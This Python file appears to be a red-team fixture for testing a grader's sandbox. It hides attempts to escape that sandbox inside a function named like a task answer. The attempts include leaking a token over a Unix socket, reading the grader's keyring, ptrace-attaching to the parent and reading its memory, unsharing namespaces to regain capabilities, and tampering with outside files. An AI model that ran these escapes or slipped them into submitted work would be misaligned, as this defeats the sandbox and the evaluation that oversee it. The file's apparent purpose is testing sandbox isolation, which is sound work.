# Attack: leave the sandbox through doors that Landlock's file rules and the network namespace do not close.
# PLACES["door"] names the one to try: a Unix socket by path, System V shared memory with a fixed key, the
# grader's session keyring, /dev/shm, a terminal, other processes' command lines, ptrace and cross-process
# reads, new namespaces, io_uring, and changing the modes and times of a file outside. Each attempt prints
# OPEN (it worked) or CLOSED (it was refused); receptive_field then returns a wrong answer.
import ctypes
import json
import os
import socket

PLACES = json.loads(r'''@PLACES@''')
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {"shmget": 29, "shmat": 30, "add_key": 248, "keyctl": 250, "ptrace": 101, "process_vm_readv": 310,
           "io_uring_setup": 425, "unshare": 272}


def _call(name, *args):
    result = LIBC.syscall(NUMBERS[name], *args)
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, f"{name}: {os.strerror(error)}")
    return result


def unix_socket():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect(PLACES["unix_socket"])
        client.sendall(b"LEAK " + PLACES["token"].encode())
    return "connected to " + PLACES["unix_socket"]


def unix_datagram():
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    first.sendto(b"LEAK", PLACES["unix_socket"])
    return "sent a datagram"


def sysv_shared_memory():
    segment = _call("shmget", ctypes.c_int(PLACES["shm_key"]), ctypes.c_size_t(1 << 20), 0o1000 | 0o666)
    address = LIBC.syscall(NUMBERS["shmat"], segment, None, 0)
    ctypes.memmove(address, PLACES["token"].encode(), len(PLACES["token"]))
    return f"segment {segment} written"


def keyring():
    key = _call("keyctl", 10, -3, b"user", PLACES["key_description"].encode(), 0)  # KEYCTL_SEARCH in @s
    buffer = ctypes.create_string_buffer(256)
    size = _call("keyctl", 11, key, buffer, 256)  # KEYCTL_READ
    return f"read the grader's key: {buffer.raw[:size]!r}"


def new_key():
    return f"added key {_call('add_key', b'user', b'red-team', b'x', 1, -3)}"


def dev_shm():
    found = os.listdir("/dev/shm")
    with open(PLACES["shm_file"], "rb") as handle:
        return f"read {handle.read()!r} beside {found}"


def terminal():
    opened = []
    for path in ["/dev/tty", "/dev/console", *(f"/dev/pts/{n}" for n in range(8)), "/dev/ptmx"]:
        try:
            with open(path, "wb", buffering=0) as handle:
                handle.write(b"\x1b[2J red team\n")
            opened.append(path)
        except OSError:
            pass
    if not opened:
        raise OSError("no terminal could be opened")
    return f"wrote to {opened}"


def command_lines():
    try:
        others = [int(entry) for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]
    except OSError:
        others = [os.getppid(), 1]  # the zygote, and the first process: their folders need no listing
    seen = []
    for pid in others:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                seen.append(handle.read()[:80])
        except OSError:
            pass
    with open("/proc/self/status") as status:  # its own process stays readable
        status.read()
    if not seen:
        raise OSError("no other process's command line is readable")
    return f"read {seen[:3]}"


def trace_the_parent():
    parent = os.getppid()
    _call("ptrace", 16, parent, None, None)  # PTRACE_ATTACH
    return f"attached to {parent}"


def read_parent_memory():
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_void_p * 2)(0x400000, 16)
    _call("process_vm_readv", os.getppid(), local, 1, remote, 1, 0)
    return "read the parent's memory"


def new_namespace():
    _call("unshare", 0x10000000 | 0x00020000)  # a user and a mount namespace: a way back to capabilities
    return "entered new namespaces"


def io_uring():
    params = ctypes.create_string_buffer(120)
    return f"io_uring fd {_call('io_uring_setup', 4, params)}"


def file_modes_outside():
    os.chmod(PLACES["sentinel"], 0o777)
    os.utime(PLACES["sentinel"], (0, 0))
    return "changed the mode and time of " + PLACES["sentinel"]


DOORS = {name: globals()[name] for name in (
    "unix_socket", "unix_datagram", "sysv_shared_memory", "keyring", "new_key", "dev_shm", "terminal",
    "command_lines", "trace_the_parent", "read_parent_memory", "new_namespace", "io_uring", "file_modes_outside")}


def receptive_field(layers):
    try:
        print("OPEN:", DOORS[PLACES["door"]]())
    except OSError as error:
        print("CLOSED:", error)
    return -1
